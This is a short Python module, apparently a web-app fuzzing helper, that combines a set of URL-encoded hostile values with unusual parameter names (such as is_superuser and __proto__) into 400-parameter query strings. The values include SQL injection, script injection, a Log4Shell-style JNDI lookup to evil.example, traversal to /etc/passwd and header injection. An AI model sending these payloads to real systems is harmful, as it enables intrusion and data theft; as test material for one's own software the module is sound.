"""Four hundred hostile parameters for an address."""

from __future__ import annotations

HOSTILE = 400
# Values as they stand in an address: not all of them are text.
VALUES = (
    "", "%00", "%ff%fe", "%c0%ae%c0%ae%2f", "%ed%a0%80", "%u0027", "%25%30%30", "'%20OR%201=1--",
    "1;SELECT%20pg_sleep(9)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%7B%7B7*7%7D%7D", "$%7Bjndi:ldap://evil.example/x%7D",
    "..%2f..%2fetc%2fpasswd",
    "%0d%0aSet-Cookie:%20a=b", "-1", "1e309", "NaN", "Infinity", "0x41", "%C2%B2", "9" * 400, "A" * 3000, "%E2%80%AE",
    "true", "null", "%5B%5D", "%7B%22%24ne%22:1%7D", "2017-02-30", "0000-00", "9999-12", "%252e", "+",
    "%26partnership=ELSE",
)  # fmt: skip
# Names that pages do not have, but that another program might read: columns, lookups, flags, arrays.
NAMES = (
    "order_by", "ordering", "person__nhs_number__startswith", "nhs_number", "is_superuser", "role", "suppress_small",
    "threshold", "debug", "_method", "callback", "format", "fields", "id[]", "id[$ne]", "sort[]", "__proto__", "user",
    "page", "size", "month", "place", "kind", "text", "sort", "status", "of", "who", "since", "until", "version",
    "next",
)  # fmt: skip


def hostile_query(names: list[str], *, first: int) -> str:
    """400 hostile parameters as they stand in an address: each name gets one value after the other."""
    pairs = (
        f"{names[at % len(names)]}={VALUES[(first + at * 7 + at // len(names)) % len(VALUES)]}"
        for at in range(HOSTILE)
    )
    return "&".join(pairs)
